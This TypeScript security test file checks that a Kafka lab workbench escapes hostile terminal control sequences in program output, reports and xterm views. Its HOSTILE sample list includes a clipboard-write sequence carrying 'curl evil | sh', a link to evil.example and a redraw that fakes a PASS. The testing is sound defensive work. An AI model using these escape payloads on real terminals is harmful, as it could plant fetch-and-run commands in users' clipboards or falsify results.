/**
 * Issue 27, class 5: program-controlled strings reach no terminal raw. Hostile text (ANSI colour, a
 * carriage return that redraws a FAIL as PASS, OSC 0 title, OSC 52 clipboard, OSC 8 link, DA, DSR,
 * DECRQSS and OSC colour queries, a C1 CSI) goes through every path that shows program text: the
 * output sink, the CLI's report, the workbench terminal's output lines, consume results, fault notes
 * and compiler messages. A real xterm (the workbench's, run headless here) is fed what the terminal
 * view writes: it never answers, never retitles, and the command line ignores xterm's answers to
 * queries when they do come. The same program graded against the broker: tests/security/program-strings.test.ts.
 */
import { describe, expect, it } from 'vitest';
import { OutputSink } from '../../lab-server/runner/program/output-sink.ts';
import { formatReport as cliReport } from '../../src/shared/format-report.ts';
import { hasOnlyOwnColours, jsonForTerminal, keepOnlyColours, showControlCharacters } from '../../src/shared/sanitise.ts';
import { formatInspectResult } from '../../src/components/workbench/terminal/format-inspect.ts';
import { formatDiagnostics, formatFault } from '../../src/components/workbench/terminal/format-events.ts';
import { formatReport as xtermReport } from '../../src/components/workbench/terminal/format-report.ts';
import { outputLine, screenText } from '../../src/components/workbench/terminal/screen-text.ts';
import { LineEditor } from '../../src/components/workbench/terminal/line-editor.ts';
import { fakeReport } from '../support/fake-lab-session.ts';

const ESC = '\x1b';
/** One of each: what a hostile program prints or uses as a record key. */
export const HOSTILE = [
  `${ESC}[1;32mPASS${ESC}[0m`,
  `\r${ESC}[2K${ESC}[1;32mPASS  every check held${ESC}[0m`,
  `${ESC}]0;pwned title\x07`,
  `${ESC}]52;c;${Buffer.from('curl evil | sh').toString('base64')}\x07`,
  `${ESC}]8;;https://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\`,
  `${ESC}[c`,
  `${ESC}[6n`,
  `${ESC}P$qm${ESC}\\`,
  `${ESC}]11;?\x07`,
  '\x9b6n',
  `${ESC}[8mhidden${ESC}[0m`,
  'left\u202eright',
];

// xterm's browser build runs in Node once these globals exist (it only parses here; nothing renders).
const xterm = async () => {
  (globalThis as Record<string, unknown>).window ??= globalThis;
  (globalThis as Record<string, unknown>).self ??= globalThis;
  const { Terminal } = await import('@xterm/xterm');
  const terminal = new Terminal({ allowProposedApi: true, cols: 200, rows: 50 });
  const replies: string[] = [];
  const titles: string[] = [];
  terminal.onData((d) => replies.push(d));
  terminal.onTitleChange((t) => titles.push(t));
  const write = (text: string) => new Promise<void>((resolve) => terminal.write(text, resolve));
  const screen = () => {
    const lines: string[] = [];
    for (let y = 0; y < terminal.buffer.active.length; y++) lines.push(terminal.buffer.active.getLine(y)?.translateToString(true) ?? '');
    return lines.join('\n');
  };
  return { terminal, replies, titles, write, screen };
};

describe('the one sanitiser', () => {
  it('shows every control character escaped, idempotently, and keeps only the own colours', () => {
    for (const text of HOSTILE) {
      const safe = showControlCharacters(text);
      // eslint-disable-next-line no-control-regex
      expect(safe).not.toMatch(/[\x00-\x1f\x7f-\x9f\u202e]/);
      expect(showControlCharacters(safe)).toBe(safe);
      expect(hasOnlyOwnColours(keepOnlyColours(text))).toBe(true);
    }
    expect(keepOnlyColours(`${ESC}[1;32mok${ESC}[0m ${ESC}[8mx${ESC}]0;t\x07`)).toBe(`${ESC}[1;32mok${ESC}[0m \\x1b[8mx\\x1b]0;t\\x07`);
    // JSON stays the same JSON: C1 and the invisible marks become \u escapes.
    const json = jsonForTerminal({ key: HOSTILE.join('') });
    expect(JSON.parse(json)).toEqual({ key: HOSTILE.join('') });
    // eslint-disable-next-line no-control-regex
    expect(json).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]/);
  });

  it('is applied by the output sink to program lines, instance names and grader notes', () => {
    const seen: string[] = [];
    const sink = new OutputSink((instance, _stream, line) => seen.push(`${instance} ${line}`), '/tmp/kafkaiq-x');
    for (const text of HOSTILE) sink.line('i1', 'stdout', text);
    sink.line(`i1${ESC}]0;t\x07`, 'stderr', 'x');
    sink.system(`grader: key ${HOSTILE[1]}`);
    for (const line of seen) expect(line, JSON.stringify(line)).not.toMatch(/[\x00-\x1f\x7f-\x9f]/);
    expect(seen[0]).toBe('i1 \\x1b[1;32mPASS\\x1b[0m');
  });
});

describe('the CLI report', () => {
  it('cannot redraw a FAIL as PASS: its bytes carry only its own colours', () => {
    const base = fakeReport('single-stage', { verdict: 'fail' });
    const report = {
      ...base,
      message: `Lost outputs ${HOSTILE[1]}`,
      checks: base.checks.map((c) => ({ ...c, passed: false, summary: `summary ${HOSTILE[0]}`, evidence: HOSTILE.map((h) => `key ${h}`) })),
      faults: base.faults.map((f) => ({ ...f, note: HOSTILE.join(' ') })),
    };
    for (const color of [true, false]) {
      const bytes = cliReport(report, { color, width: 100 });
      expect(hasOnlyOwnColours(bytes), JSON.stringify(bytes)).toBe(true);
      expect(bytes).not.toContain('\r');
      // eslint-disable-next-line no-control-regex
      expect(bytes.replace(/\x1b\[[0-9;]*m/g, '').split('\n')[0]).toMatch(/^FAIL /);
    }
  });
});

describe('the workbench terminal (a real xterm)', () => {
  it('shows program output, consume results, fault notes and compiler messages escaped: no reply, no title, no link', async () => {
    const { replies, titles, write, screen, terminal } = await xterm();
    const lines: string[] = [];
    for (const text of HOSTILE) lines.push(outputLine('i1', 'stdout', text), outputLine(`i${text}`, 'stderr', text));
    lines.push(
      ...formatInspectResult({
        what: 'consume',
        topic: `out${HOSTILE[2]}`,
        isolation: 'read_committed',
        truncated: false,
        records: HOSTILE.map((h, i) => ({ partition: 0, offset: i, key: h, value: h, status: i % 2 ? 'committed' : 'aborted' })) as never,
      }),
      ...formatInspectResult({ what: 'txns', transactions: [{ transactionalId: HOSTILE[3]!, state: HOSTILE[6]!, producerId: 1, durationMs: null, partitions: [HOSTILE[4]!] }] } as never),
      formatFault({ ...fakeReport('single-stage', { verdict: 'fail' }).faults[0]!, note: HOSTILE.join(' '), instance: HOSTILE[5]! } as never),
      ...formatDiagnostics([{ line: 1, column: 1, severity: 'error', message: `Type '"${HOSTILE[7]}"' is not assignable` }]),
      ...xtermReport({ ...fakeReport('single-stage', { verdict: 'fail' }), message: HOSTILE.join(' ') }, 120),
    );
    for (const line of lines) {
      const written = screenText(line);
      expect(hasOnlyOwnColours(written), JSON.stringify(written)).toBe(true);
      await write(`${written}\r\n`);
    }
    expect(replies).toEqual([]);
    expect(titles).toEqual([]);
    const text = screen();
    expect(text).toContain('\\x1b]52;c;');
    expect(text).toContain('\\x1b[6n');
    expect(text).toContain('\\x9b6n');
    terminal.dispose();
  });

  it('screenText holds even for a line a future path forgot to sanitise', async () => {
    const { replies, titles, write, terminal } = await xterm();
    for (const text of HOSTILE) await write(`${screenText(`forgot ${text}`)}\r\n`);
    expect(replies).toEqual([]);
    expect(titles).toEqual([]);
    terminal.dispose();
  });

  it("ignores xterm's answers to queries in the command line: nothing is typed", async () => {
    const { replies, write, terminal } = await xterm();
    // Queries written straight to xterm (never by the workbench): collect what xterm answers.
    await write(`${ESC}[c${ESC}[>c${ESC}[6n${ESC}[5n${ESC}]10;?\x07${ESC}]11;?${ESC}\\${ESC}P$qm${ESC}\\${ESC}P$q"p${ESC}\\${ESC}[?1004h${ESC}[18t`);
    expect(replies.length).toBeGreaterThan(0);
    const submitted: string[] = [];
    const editor = new LineEditor(() => {}, (line) => submitted.push(line));
    editor.start();
    for (const reply of replies) editor.input(reply);
    // Focus reports, and a reply split from its ESC, a C1 CSI and a stray OSC end: still nothing typed.
    for (const odd of [`${ESC}[I`, `${ESC}[O`, '\x9b1;2c', `${ESC}]11;rgb:0000/0000/0000${ESC}\\`]) editor.input(odd);
    expect(editor.state.buffer).toBe('');
    editor.input('help\r');
    expect(submitted).toEqual(['help']);
    terminal.dispose();
  });
});
